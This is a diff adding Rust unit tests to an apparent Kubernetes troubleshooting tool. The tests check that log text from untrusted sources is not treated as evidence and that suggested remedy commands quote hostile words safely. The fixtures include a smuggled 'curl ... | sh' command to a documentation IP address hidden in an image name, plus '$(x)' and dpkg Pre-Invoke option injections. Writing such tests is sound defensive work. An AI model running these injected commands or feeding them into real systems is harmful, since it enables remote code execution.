@@ -44,6 +44,35 @@ fn data_of_an_earlier_etcd_is_named_by_the_inventorys_folder() {
 }
 
 #[test]
+fn what_any_kubelet_may_write_is_no_evidence_of_what_a_machine_says() {
+    for (_, line, cause, _) in EVIDENCE.iter().filter(|(.., cause, _)| *cause != "registry-unreachable") {
+        for place in OF_THE_CLUSTER {
+            assert_eq!(names(&[heard("m1", &[(place, line)])]), [""; 0], "{cause} at {place}");
+        }
+    }
+    let status =
+        "pod kube-system/x has no image: [ERROR DirAvailable--var-lib-etcd]: /var/lib/etcd is not empty";
+    assert_eq!(names(&[heard("m1", &[("fix", status)])]), [""; 0], "a pod's state");
+}
+
+#[test]
+fn words_of_a_machine_are_words_in_a_remedy_and_nothing_more() {
+    let image = r"r.io/x:1;curl${IFS}203.0.113.9|sh";
+    let line = format!(r#"failed to resolve reference "{image}": r.io/x:1: not found"#);
+    let found = findings(&[heard("w1", &[("journal kubelet", &line)])], ETCD_DIR);
+    assert!(found[0].remedy.ends_with(&format!("certs.d '{image}'")), "{}", found[0].remedy);
+    assert_eq!(pasted("libc6:amd64 a'b $(x)"), r"libc6:amd64 'a'\''b' '$(x)'");
+    let options = "these packages would be removed: -o DPkg::Pre-Invoke::=x";
+    assert_eq!(names(&[heard("w1", &[("fix", options)])]), [""; 0]);
+    // A quoted word between quotes would end them.
+    for cause in CAUSES {
+        let remedy = cause.remedy.replace("'s ", " ");
+        let mut groups = remedy.split('\'').skip(1).step_by(2).filter(|quoted| quoted.contains('{'));
+        assert!(groups.all(|quoted| quoted.contains("{port}")), "{}", cause.name);
+    }
+}
+
+#[test]
 fn every_pattern_compiles_and_every_name_is_there_once() {
     let mut names: Vec<&str> = CAUSES.iter().map(|cause| cause.name).collect();
     names.sort_unstable();
